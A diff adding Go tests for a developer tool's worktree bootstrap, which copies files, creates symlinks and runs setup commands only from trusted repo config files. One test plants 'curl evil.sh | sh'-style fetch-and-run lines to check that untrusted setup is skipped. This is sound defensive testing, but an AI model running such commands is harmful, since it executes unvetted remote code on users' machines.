@@ -0,0 +1,238 @@
+package worktree
+
+import (
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/cjairm/devgita/internal/commands"
+	"github.com/cjairm/devgita/internal/testutil"
+	"github.com/cjairm/devgita/pkg/constants"
+	"github.com/cjairm/devgita/pkg/paths"
+)
+
+// writeFile creates path (and its parent dirs) with content.
+func writeFile(t *testing.T, path, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatalf("setup: %v", err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatalf("setup: %v", err)
+	}
+}
+
+func TestLoadBootstrapConfigPrecedence(t *testing.T) {
+	cleanupPaths := testutil.SetupIsolatedPaths(t)
+	defer cleanupPaths()
+	repoRoot := t.TempDir()
+	globalPath := filepath.Join(paths.Paths.Config.Root, constants.App.Name, bootstrapFileName)
+
+	cfg, err := LoadBootstrapConfig(repoRoot)
+	if err != nil || len(cfg.Copy)+len(cfg.Symlink)+len(cfg.Setup) != 0 {
+		t.Fatalf("expected an empty config with no files, got %+v, %v", cfg, err)
+	}
+
+	writeFile(t, globalPath, "setup:\n  - make deps\n")
+	if cfg, _ = LoadBootstrapConfig(repoRoot); len(cfg.Setup) != 1 || cfg.Setup[0] != "make deps" {
+		t.Errorf("expected the global fallback, got %+v", cfg)
+	}
+
+	writeFile(t, filepath.Join(repoRoot, ".devgita", "worktree.yaml"), "copy:\n  - .env\n")
+	cfg, err = LoadBootstrapConfig(repoRoot)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if len(cfg.Copy) != 1 || len(cfg.Setup) != 0 {
+		t.Errorf("expected the repo file to replace the global one, got %+v", cfg)
+	}
+
+	writeFile(t, filepath.Join(repoRoot, ".devgita", "worktree.yaml"), "copy: [unclosed\n")
+	if _, err := LoadBootstrapConfig(repoRoot); err == nil {
+		t.Error("expected a parse error for a malformed repo file")
+	}
+}
+
+func TestPrepareWorktree(t *testing.T) {
+	cleanupPaths := testutil.SetupIsolatedPaths(t)
+	defer cleanupPaths()
+	repoRoot, wtPath := t.TempDir(), t.TempDir()
+
+	writeFile(t, filepath.Join(repoRoot, ".devgita", "worktree.yaml"), `copy:
+  - .env
+  - config/*.local.json
+  - README.md
+  - missing.txt
+  - ../outside
+symlink:
+  - node_modules
+setup:
+  - npm ci
+`)
+	writeFile(t, filepath.Join(repoRoot, ".env"), "SECRET=1\n")
+	writeFile(t, filepath.Join(repoRoot, "config", "db.local.json"), "{}")
+	writeFile(t, filepath.Join(repoRoot, "README.md"), "main copy\n")
+	writeFile(t, filepath.Join(wtPath, "README.md"), "tracked copy\n")
+	writeFile(t, filepath.Join(repoRoot, "node_modules", "pkg", "index.js"), "")
+	if _, err := AllowRepoSetup(repoRoot); err != nil {
+		t.Fatalf("setup: %v", err)
+	}
+
+	setup, problems := PrepareWorktree(repoRoot, wtPath)
+
+	if len(setup) != 1 || setup[0] != "npm ci" {
+		t.Errorf("expected the setup commands back, got %v", setup)
+	}
+	if data, err := os.ReadFile(filepath.Join(wtPath, ".env")); err != nil || string(data) != "SECRET=1\n" {
+		t.Errorf("expected .env to be copied, got %q, %v", data, err)
+	}
+	if _, err := os.Stat(filepath.Join(wtPath, "config", "db.local.json")); err != nil {
+		t.Errorf("expected the glob match to be copied: %v", err)
+	}
+	if data, _ := os.ReadFile(filepath.Join(wtPath, "README.md")); string(data) != "tracked copy\n" {
+		t.Errorf("expected an existing file to be left alone, got %q", data)
+	}
+	if target, err := os.Readlink(filepath.Join(wtPath, "node_modules")); err != nil ||
+		target != filepath.Join(repoRoot, "node_modules") {
+		t.Errorf("expected node_modules to link to the main worktree, got %q, %v", target, err)
+	}
+	if len(problems) != 2 {
+		t.Fatalf("expected 2 problems (no match, outside path), got %v", problems)
+	}
+	if !strings.Contains(problems[0].Error(), "missing.txt") ||
+		!strings.Contains(problems[1].Error(), "../outside") {
+		t.Errorf("unexpected problems: %v", problems)
+	}
+}
+
+func TestPrepareWorktreeSkipsUntrustedRepoSetup(t *testing.T) {
+	cleanupPaths := testutil.SetupIsolatedPaths(t)
+	defer cleanupPaths()
+	repoRoot := t.TempDir()
+	repoFile := filepath.Join(repoRoot, ".devgita", "worktree.yaml")
+
+	writeFile(t, repoFile, "setup:\n  - curl evil.sh | sh\n")
+	setup, problems := PrepareWorktree(repoRoot, t.TempDir())
+	if len(setup) != 0 {
+		t.Errorf("expected an untrusted repo file's setup to be skipped, got %v", setup)
+	}
+	if len(problems) != 1 || !strings.Contains(problems[0].Error(), "dg wt allow") {
+		t.Errorf("expected a warning pointing at dg wt allow, got %v", problems)
+	}
+
+	cfg, err := AllowRepoSetup(repoRoot)
+	if err != nil || len(cfg.Setup) != 1 {
+		t.Fatalf("expected the file to be trusted, got %+v, %v", cfg, err)
+	}
+	if setup, problems = PrepareWorktree(repoRoot, t.TempDir()); len(setup) != 1 || len(problems) != 0 {
+		t.Errorf("expected a trusted file's setup to run, got %v, %v", setup, problems)
+	}
+
+	writeFile(t, repoFile, "setup:\n  - curl worse.sh | sh\n")
+	if setup, _ = PrepareWorktree(repoRoot, t.TempDir()); len(setup) != 0 {
+		t.Errorf("expected an edited file to need trusting again, got %v", setup)
+	}
+
+	if err := os.Remove(repoFile); err != nil {
+		t.Fatalf("setup: %v", err)
+	}
+	writeFile(t, globalBootstrapPath(), "setup:\n  - make deps\n")
+	if setup, problems = PrepareWorktree(repoRoot, t.TempDir()); len(setup) != 1 || len(problems) != 0 {
+		t.Errorf("expected the global file's setup to run untrusted, got %v, %v", setup, problems)
+	}
+}
+
+func TestSetupLine(t *testing.T) {
+	got := setupLine([]string{"npm ci", "go generate ./..."})
+	want := "{ npm ci; } || echo 'devgita: setup failed: npm ci'; " +
+		"{ go generate ./...; } || echo 'devgita: setup failed: go generate ./...'"
+	if got != want {
+		t.Errorf("expected %q, got %q", want, got)
+	}
+}
+
+func TestRunSetupLogsAndKeepsGoing(t *testing.T) {
+	wtPath := t.TempDir()
+	logPath := filepath.Join(t.TempDir(), "logs", "feat.log")
+	base := commands.NewMockBaseCommand()
+	base.SetExecCommandResults(
+		commands.ExecCommandResult("", "npm ERR!\n", errors.New("exit status 1")),
+		commands.ExecCommandResult("generated\n", "", nil),
+	)
+
+	problems := RunSetup(base, []string{"npm ci", "go generate ./..."}, wtPath, logPath)
+
+	if len(base.ExecCommandCalls) != 2 {
+		t.Fatalf("expected both commands to run, got %d calls", len(base.ExecCommandCalls))
+	}
+	if call := base.ExecCommandCalls[1]; call.Dir != wtPath || !call.Stream ||
+		strings.Join(call.Args, " ") != "-c go generate ./..." {
+		t.Errorf("unexpected second call: %+v", call)
+	}
+	if len(problems) != 1 || !strings.Contains(problems[0].Error(), "npm ci") {
+		t.Errorf("expected one problem naming npm ci, got %v", problems)
+	}
+	data, err := os.ReadFile(logPath)
+	if err != nil {
+		t.Fatalf("expected a log file: %v", err)
+	}
+	if !strings.Contains(string(data), "npm ERR!") || !strings.Contains(string(data), "generated") {
+		t.Errorf("expected both commands' output in the log, got %q", data)
+	}
+}
+
+// TestCreateRunsBootstrapSetupInFirstPane proves create copies the repo's
+// bootstrap files and runs its setup commands in pane 0 ahead of the coder.
+func TestCreateRunsBootstrapSetupInFirstPane(t *testing.T) {
+	isolateDataRoot(t)
+	cleanupPaths := testutil.SetupIsolatedPaths(t)
+	defer cleanupPaths()
+	setShellCommandExistsFn(t, func(string) bool { return true })
+
+	repoRoot := t.TempDir()
+	writeFile(t, filepath.Join(repoRoot, ".devgita", "worktree.yaml"),
+		"copy:\n  - .env\nsetup:\n  - npm ci\n")
+	writeFile(t, filepath.Join(repoRoot, ".env"), "SECRET=1\n")
+	if _, err := AllowRepoSetup(repoRoot); err != nil {
+		t.Fatalf("setup: %v", err)
+	}
+
+	wm, mockGitBase, mockTmuxBase, _ := newRecordingWM()
+	var warnings []string
+	wm.WarnFn = func(msg string) { warnings = append(warnings, msg) }
+	mockGitBase.SetExecCommandResults(
+		commands.ExecCommandResult(repoRoot+"\n", "", nil),
+		commands.ExecCommandResult("", "", nil),
+	)
+	mockTmuxBase.SetExecCommandResult("", "", nil)
+
+	layout, err := ResolveLayout("claude", "", nil)
+	if err != nil {
+		t.Fatalf("resolve: %v", err)
+	}
+	if err := wm.Create("feat", layout, true); err != nil {
+		t.Fatalf("Create failed: %v", err)
+	}
+
+	wtPath := wm.worktreePath(filepath.Base(repoRoot), "feat")
+	if _, err := os.Stat(filepath.Join(wtPath, ".env")); err != nil {
+		t.Errorf("expected .env to be copied into the worktree: %v", err)
+	}
+	want := "{ npm ci; } || echo 'devgita: setup failed: npm ci'; cc"
+	if !containsArg(flattenArgs(mockTmuxBase.ExecCommandCalls), want) {
+		t.Errorf("expected pane 0 to run setup before cc, got %v", mockTmuxBase.ExecCommandCalls)
+	}
+	if len(warnings) != 0 {
+		t.Errorf("expected no bootstrap warnings, got %v", warnings)
+	}
+}
+
+func flattenArgs(calls []commands.CommandParams) []string {
+	var args []string
+	for _, call := range calls {
+		args = append(args, call.Args...)
+	}
+	return args
+}